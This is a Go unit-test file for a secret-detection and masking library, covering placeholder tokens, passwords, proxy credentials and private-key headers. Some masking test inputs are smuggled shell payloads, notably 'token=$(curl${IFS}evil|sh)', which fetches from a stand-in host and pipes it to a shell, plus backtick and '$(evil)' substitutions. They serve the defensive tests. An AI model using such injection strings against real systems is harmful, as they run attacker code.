package secret

import "testing"

func TestWithin(t *testing.T) {
	for text, want := range map[string]bool{
		"access-tokens = github.com=ghp_0123456789abcdefghij":                                 true,
		"experimental-features = nix-command flakes\naccess-tokens = git.example.org=hunter2": true,
		"extra-access-tokens = git.example.org=PAT:hunter2":                                   true,
		"http://user:hunter2@proxy:3128":                                                      true,
		"http://:hunter2@proxy":                                                               true,
		"https://ghp_0123456789abcdefghij@github.com/x":                                       true,
		"https://example.org/simple?token=hunter2":                                            true,
		"one,https://user:p@ss@host/simple two":                                               true,
		`{"auth": "hunter2"}`:                                                                 true,
		"password=hunter2":                                                                    true,
		"Authorization: Bearer hunter2":                                                       true,
		"sk-0123456789abcdefghij":                                                             true,
		"a ghp_0123456789abcdefghij b":                                                        true,
		"-----BEGIN OPENSSH PRIVATE KEY-----\nabc":                                            true,
		"aB3dE5fG7hI9jK1lM3":                                                                  true,

		"": false,
		"/usr/local/bin:/usr/bin:/opt/sk-learn-environment/bin":                                    false,
		"/nix/store/0c5kz8vqd9wr3b1m2x4y6z7a8b9c0d1e-nix-2.18/etc/ssl/certs/ca-bundle.crt":         false,
		"experimental-features = nix-command flakes\nmax-jobs = 4":                                 false,
		"trusted-public-keys = cache.nixos.org-1:6NCHdD59X431o0gWypbMrAURkbJ16ZPMQFGspcDShjY=":     false,
		"nixpkgs=https://github.com/NixOS/nixpkgs/archive/0c5kz8vqd9wr3b1m2x4y6z7a8b9c0d1e.tar.gz": false,
		"http://proxy.example.org:3128":                                                            false,
		"http://proxy:3128,http://me@other":                                                        false,
		"ssh://me@host:22":                                                                         false,
		"unix:path=/run/user/1000/bus,guid=0123456789abcdef0123456789abcdef":                       false,
		"localhost,127.0.0.1,.example.org":                                                         false,
		"max-tokens = 4096":                                                                        false,
		"secret-key-files = /etc/nix/key":                                                          false,
		"en_GB.UTF-8":                                                                              false,
		":0":                                                                                       false,
		"/tmp/ssh-ABCDEFa1B2c3/agent.4242":                                                         false,
		"KEY_FILE=/etc/ssl/key.pem":                                                                false,
	} {
		if got := Within(text); got != want {
			t.Errorf("Within(%q) = %v", text, got)
		}
	}
}

func TestMaskWithin(t *testing.T) {
	for text, want := range map[string]string{
		"--require ./evil.js ghp_0123456789abcdefghij": "--require ./evil.js [hidden]",
		"http://me:hunter2@proxy:3128/x":               "http://me:[hidden]@proxy:3128/x",
		"https://ghp_0123456789abcdefghij@host/x":      "https://[hidden]@host/x",
		"a = 1\naccess-tokens = github.com=hunter2 x":  "a = 1\naccess-tokens = [hidden] x",
		`{"auth": "hunter2", "b": 1}`:                  `{"auth": "[hidden]", "b": 1}`,
		"plain":                                        "plain",
		"token=$(curl${IFS}evil|sh)":                   "token=$(curl${IFS}evil|sh)",
		"password=`evil`":                              "password=`evil`",
		"http://me:$(evil)@host":                       "http://me:$(evil)@host",
		"aB3dE5fG7hI9jK1lM3":                           "[hidden]",
	} {
		if got := MaskWithin(text); got != want {
			t.Errorf("MaskWithin(%q) = %q, want %q", text, got, want)
		}
	}
}
